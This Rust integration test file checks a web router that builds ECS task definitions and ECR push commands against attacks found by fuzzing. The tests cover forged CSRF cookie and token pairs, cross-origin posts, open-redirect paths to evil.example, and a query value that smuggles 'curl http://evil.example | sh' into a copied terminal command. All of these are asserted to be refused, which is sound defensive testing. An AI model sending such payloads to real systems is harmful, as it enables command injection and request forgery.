//! Attacks and faults found by fuzzing and by hand (issue 7), each replayed
//! against the router in-process.

mod common;

use axum::body::Body;
use axum::http::header;
use common::in_process::{Answer, InProcess, ORIGIN, preview_app};

async fn new_draft(app: &mut InProcess) -> String {
    let created = app.post("/task-definitions/drafts", &[]).await;
    assert_eq!(created.status, 303);
    created.location.trim_end_matches("/configure").to_string()
}

fn is_app_page(answer: &Answer) {
    assert!(
        answer.content_type.starts_with("text/html"),
        "{} {}",
        answer.status,
        answer.content_type
    );
    assert!(
        answer.body.contains("<link rel=\"stylesheet\""),
        "styled: {}",
        answer.body
    );
    assert!(
        answer.body.contains("href=\"/\""),
        "a way back: {}",
        answer.body
    );
}

// Item 7: another page on this machine (another port shares the cookies)
// chooses both the cookie and the field; or it posts with its own Origin.
#[tokio::test]
async fn a_cookie_and_field_chosen_by_another_page_are_refused() {
    let mut app = preview_app().await;
    let attacker = app
        .request("POST", "/task-definitions/drafts")
        .header(
            header::COOKIE,
            "ecsw_browser=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA; ecsw_csrf=pwn",
        )
        .header(header::ORIGIN, ORIGIN)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("csrf_token=pwn"))
        .unwrap();
    let answer = app.send(attacker).await;
    assert_eq!(answer.status, 403);
    is_app_page(&answer);
    assert!(answer.body.contains("expired"), "{}", answer.body);

    // The double-submit pair that used to pass: a token equal to the cookie.
    let browser = "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB";
    let forged = Body::from(format!("csrf_token={browser}"));
    let answer = app
        .send(
            app.request("POST", "/task-definitions/drafts")
                .header(header::COOKIE, format!("ecsw_browser={browser}"))
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(forged)
                .unwrap(),
        )
        .await;
    assert_eq!(answer.status, 403);
}

#[tokio::test]
async fn a_post_from_another_origin_is_refused_even_with_a_valid_token() {
    let mut app = preview_app().await;
    let attacks: [&[(&str, &str)]; 5] = [
        &[("origin", "http://127.0.0.1:5799")],
        &[("origin", "http://localhost:8080")],
        &[("origin", "null")],
        &[("origin", ORIGIN), ("sec-fetch-site", "same-site")],
        &[("origin", ORIGIN), ("sec-fetch-site", "cross-site")],
    ];
    for headers in attacks {
        let mut request = app.form_request("/task-definitions/drafts", &[]);
        request.headers_mut().remove(header::ORIGIN);
        request.headers_mut().remove("sec-fetch-site");
        for (name, value) in headers {
            request.headers_mut().insert(*name, value.parse().unwrap());
        }
        let answer = app.send(request).await;
        assert_eq!(answer.status, 403, "{headers:?}");
        assert!(answer.body.contains("another site"), "{}", answer.body);
    }
    let mut no_origin = app.form_request("/task-definitions/drafts", &[]);
    no_origin.headers_mut().remove(header::ORIGIN);
    assert_eq!(app.send(no_origin).await.status, 403, "no Origin at all");
    // Only now, from this server's own page, does it go through.
    assert_eq!(app.post("/task-definitions/drafts", &[]).await.status, 303);
}

// Item 8: the language switch follows only local paths made of safe characters.
#[tokio::test]
async fn the_language_switch_never_leaves_the_site_and_never_fails() {
    let mut app = preview_app().await;
    for back in [
        "/\t/evil.example",
        "/\n/evil.example",
        "//evil.example",
        "/\\evil.example",
        "/\0",
        "/\n",
        "/\u{b}",
        "/\u{c}",
        "/\u{7f}",
        "https://evil.example/",
    ] {
        let answer = app.post("/lang", &[("lang", "ja"), ("back", back)]).await;
        assert_eq!(answer.status, 303, "{back:?}");
        assert_eq!(answer.location, "/", "{back:?}");
    }
    let answer = app
        .post(
            "/lang",
            &[
                ("lang", "ja"),
                ("back", "/repositories/push-commands?name=web"),
            ],
        )
        .await;
    assert_eq!(answer.location, "/repositories/push-commands?name=web");
}

// Item 11: the switch keeps the query (View push commands needs ?name=).
#[tokio::test]
async fn the_language_switch_comes_back_to_the_same_url() {
    let mut app = preview_app().await;
    let page = app.get("/repositories/push-commands?name=web&tag=v1").await;
    assert_eq!(page.status, 200);
    let back = page
        .html()
        .select(&scraper::Selector::parse("form.lang input[name=back]").unwrap())
        .next()
        .and_then(|e| e.value().attr("value").map(str::to_string));
    assert_eq!(
        back.as_deref(),
        Some("/repositories/push-commands?name=web&tag=v1")
    );
    let page = app.get("/roles/new?type=task").await;
    assert!(page.body.contains("value=\"/roles/new?type=task\""));
}

// Item 12: an htmx button whose form has another field that does not parse.
#[tokio::test]
async fn an_htmx_request_with_errors_gets_the_fragment_with_its_messages() {
    let mut app = preview_app().await;
    let draft = new_draft(&mut app).await;
    let mut request = app.form_request(
        &format!("{draft}/containers"),
        &[
            ("containerDefinitions.0.name", "web"),
            ("containerDefinitions.0.image", "nginx"),
            ("containerDefinitions.0.memory", "lots"),
            ("action", "add:containerDefinitions.0.environment"),
        ],
    );
    request
        .headers_mut()
        .insert("hx-request", "true".parse().unwrap());
    let answer = app.send(request).await;
    assert_eq!(answer.status, 422);
    assert!(
        !answer.body.contains("<html"),
        "a fragment, not a whole page"
    );
    assert!(
        answer.body.starts_with("<form id=\"step-form\"")
            || answer.body.contains("<form id=\"step-form\"")
    );
    assert!(
        answer.body.contains("Enter a whole number."),
        "{}",
        answer.body
    );
    assert!(
        answer
            .body
            .contains("containerDefinitions.0.environment.0.name"),
        "the row was added"
    );
    // htmx swaps 422: the page tells it to.
    let page = app.get(&format!("{draft}/containers")).await;
    assert!(page.body.contains(r#"{"code":"422","swap":true}"#));
}

// Item 13: every error status is the app's page in the user's language.
#[tokio::test]
async fn error_statuses_are_the_apps_pages_in_the_users_language() {
    let mut app = preview_app().await;
    let not_found = app.get("/nowhere").await;
    assert_eq!(not_found.status, 404);
    is_app_page(&not_found);

    let bad_query = app.get("/repositories/push-commands").await;
    assert_eq!(bad_query.status, 400);
    is_app_page(&bad_query);
    assert!(!bad_query.body.contains("Failed to deserialize"));

    let no_token = app
        .send(
            app.request("POST", "/task-definitions/drafts")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(no_token.status, 403);
    is_app_page(&no_token);

    let big = "x".repeat(3 * 1024 * 1024);
    let too_large = app
        .post("/task-definitions/import", &[("json", &big)])
        .await;
    assert_eq!(too_large.status, 413);
    is_app_page(&too_large);

    let mut other_host = app.get_request("/");
    other_host
        .headers_mut()
        .insert(header::HOST, "evil.example".parse().unwrap());
    let misdirected = app.send(other_host).await;
    assert_eq!(misdirected.status, 421);
    is_app_page(&misdirected);

    let get_of_a_post = app.get("/task-definitions/import").await;
    assert_eq!(get_of_a_post.status, 405);
    is_app_page(&get_of_a_post);

    let mut japanese = app.get_request("/nowhere");
    japanese
        .headers_mut()
        .insert(header::ACCEPT_LANGUAGE, "ja".parse().unwrap());
    let answer = app.send(japanese).await;
    assert!(
        answer.body.contains("ここには何もありません"),
        "{}",
        answer.body
    );
    assert!(answer.body.contains("<html lang=\"ja\">"));
}

// Item 9: a value that would run a second command in a copied terminal line.
#[tokio::test]
async fn push_commands_refuse_what_is_not_a_name_or_a_tag() {
    let mut app = preview_app().await;
    let injected = app
        .get("/repositories/push-commands?name=web&tag=latest%3B%20curl%20http%3A%2F%2Fevil.example%20%7C%20sh%20%23")
        .await;
    assert_eq!(injected.status, 400);
    assert!(!injected.body.contains("curl"));
    for query in [
        "name=web%3Bid",
        "name=Web",
        "name=web&tag=.x",
        "name=web&tag=-x",
    ] {
        let answer = app
            .get(&format!("/repositories/push-commands?{query}"))
            .await;
        assert_eq!(answer.status, 400, "{query}");
    }
    let fine = app
        .get("/repositories/push-commands?name=team/web&tag=v1.2")
        .await;
    assert_eq!(fine.status, 200);
    assert!(fine.body.contains(
        "docker push ${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/team/web:v1.2"
    ));
}
